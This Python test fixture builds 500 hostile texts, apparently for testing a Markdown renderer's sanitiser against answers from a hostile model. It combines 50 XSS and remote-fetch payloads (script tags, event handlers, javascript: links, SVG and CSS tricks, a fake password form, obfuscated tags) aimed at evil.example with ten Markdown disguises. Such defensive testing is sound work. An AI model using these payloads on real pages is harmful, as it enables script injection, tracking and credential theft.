"""Texts that a hostile model might answer with: 500 of them, the same in every run.

Each of ``PAYLOADS`` tries to run a script or to fetch something; each of ``DISGUISES`` is a way
to carry one past a reader of Markdown. A script that runs calls ``alert(1)`` and whatever is
fetched lies on ``evil.example``, so that a browser test can tell both.
"""

from base64 import b64encode
from collections.abc import Callable
from urllib.parse import quote

SCRIPT = "<script>alert(1)</script>"
FAR = "https://evil.example"

PAYLOADS = (
    SCRIPT,
    f"<script src={FAR}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img srcset='{FAR}/a.png 1x'>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    f"<svg><use href='{FAR}/x.svg#a'></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    f"<iframe src={FAR}>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    f"<link rel=stylesheet href={FAR}/x.css>",
    f"<link rel=prefetch href={FAR}/x>",
    f"<base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<form action={FAR}><input autofocus onfocus=alert(1) name=password><button>Go</button>",
    "<details open ontoggle=alert(1)>",
    f"<video autoplay src={FAR}/v.mp4 onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    f"<object data={FAR}/x.swf></object><embed src={FAR}/x>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "</article></main><script>alert(1)</script>",
    "<div style='background:url(https://evil.example/b.png);position:fixed;inset:0'>over all</div>",
    "<input type=image src=x onerror=alert(1)>",
    "<p class=strip id=judge hidden onclick=alert(1)>x",
    "{{ config }}{% include 'x' %}${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    f"[x](data:text/html;base64,{b64encode(SCRIPT.encode()).decode()})",
    "[x](vbscript:msgbox(1))",
    "[x](  java\nscript:alert(1))",
    "![x](javascript:alert(1))",
    f"![x]({FAR}/pixel.png)",
    f"[![x]({FAR}/p.png)]({FAR})",
    f"[x]: javascript:alert(1)\n\n[x] and ![x][y]\n\n[y]: {FAR}/q.png",
    f'<{FAR}/"onmouseover=alert(1)>',
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$",
    f"$$\\includegraphics{{{FAR}/x.png}} \\style{{x:expression(alert(1))}}{{y}}$$",
    f"| <script> | b |\n|---|---|\n| <img src={FAR}/t.png onerror=alert(1)> | c |",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT\x0c>alert(1)</SCRIPT\x0c>",
    "a\u0300" * 400 + SCRIPT,
)


def _fenced(text: str) -> str:
    return f"```html\n{text}\n```"


def _quoted(text: str) -> str:
    return "\n".join(f"> {line}" for line in text.split("\n"))


def _listed(text: str) -> str:
    return f"1. first\n   - {text}\n   - last"


def _unclosed(text: str) -> str:
    return f"<!-- <![CDATA[ `{text}"


def _encoded(text: str) -> str:
    return "".join(f"&#{ord(character)};" for character in text)


def _percented(text: str) -> str:
    return f"[x]({quote(text, safe='')}) ![y](https://evil.example/{quote(text, safe='')})"


def _starred(text: str) -> str:
    return f"**{text}** _{text}_ ~~{text}~~"


def _titled(text: str) -> str:
    return f'[x](https://evil.example "{text}")\n\n![y](https://evil.example/i.png "{text}")'


def _headed(text: str) -> str:
    return f"# {text}\n\n| {text} |\n|---|\n| {text} |"


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    _fenced,
    _quoted,
    _listed,
    _unclosed,
    _encoded,
    _percented,
    _starred,
    _titled,
    _headed,
)


def hostile_texts() -> tuple[str, ...]:
    """Return the texts: each payload in each disguise, no two alike."""
    return tuple(disguise(payload) for disguise in DISGUISES for payload in PAYLOADS)
